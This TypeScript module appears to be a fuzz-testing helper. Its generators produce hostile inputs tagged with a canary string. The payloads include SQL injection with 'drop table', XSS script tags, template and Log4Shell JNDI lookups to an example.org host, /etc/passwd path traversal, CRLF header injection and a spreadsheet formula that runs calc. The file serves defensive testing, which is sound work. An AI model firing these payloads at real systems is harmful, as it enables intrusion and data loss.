import type { Chance } from './chance.js';

/** Text that harms whoever puts it into a statement, a page, a log, a path or a pattern; it carries the canary. */
const texts: readonly ((canary: string) => string)[] = [
  (canary) => `'; drop table incident; -- ${canary}`,
  (canary) => `${canary}' or '1'='1`,
  (canary) => `<script>alert("${canary}")</script>`,
  (canary) => `"><img src=x onerror=alert('${canary}')>`,
  (canary) => `{{${canary}}} \${${canary}} <%= ${canary} %> #{${canary}}`,
  (canary) => `\${jndi:ldap://${canary}.example.org/a}`,
  (canary) => `../../../../etc/passwd\u0000${canary}`,
  (canary) => `${canary}\r\nset-cookie: a=b\r\n\r\n<html>`,
  (canary) => `\u202E${canary}\u2066\u200F\u061C\u2069`,
  (canary) => `\u0000\u0001\u001b[31m${canary}\u007f`,
  (canary) => `\ud800${canary}\udfff`,
  (canary) => `${canary} =cmd|' /C calc'!A0`,
  (canary) => `${canary}${'é'.repeat(5_000)}`,
  (canary) => `${canary}${'x'.repeat(90_000)}`,
  (canary) => `${canary}${'a'.repeat(30_000)}!`,
  (canary) => canary,
  (canary) => `2026-13-45T99:99:99Z${canary}`,
];

/** What is of another type, size or order than was meant. */
const others: readonly unknown[] = [
  null,
  true,
  false,
  0,
  -0,
  -1,
  0.1,
  2 ** 31,
  2 ** 53,
  -(2 ** 63),
  1e308,
  Number.MIN_VALUE,
  '',
  ' ',
  '0',
  '-1',
  '1e999',
  '9'.repeat(5_000),
  '2026-02-30',
  '0000-01-01',
  '9999-12-31',
  '+275760-09-13',
  '00000000-0000-0000-0000-000000000000',
  '__proto__',
  'constructor',
  'toString',
  [],
  {},
  [[]],
  [null],
  Array.from({ length: 3_000 }, () => 0),
  Array.from({ length: 2_000 }, () => ({})),
];

export function hostileText(from: Chance, canary: string): string {
  return from.of(texts)(canary);
}

export function hostileValue(from: Chance, canary: string): unknown {
  const text = hostileText(from, canary);
  switch (from.below(5)) {
    case 0:
      return text;
    case 1:
      return [text];
    case 2:
      return { [from.of(['id', 'kind', text])]: text };
    default:
      return from.of(others);
  }
}

/** Names that every object inherits something by, and the one that carries the canary. */
export function hostileName(from: Chance, canary: string): string {
  return from.of([
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    'length',
    '',
    '$ref',
    'a/b~c',
    `${canary}`,
    `<b>${canary}`,
  ]);
}
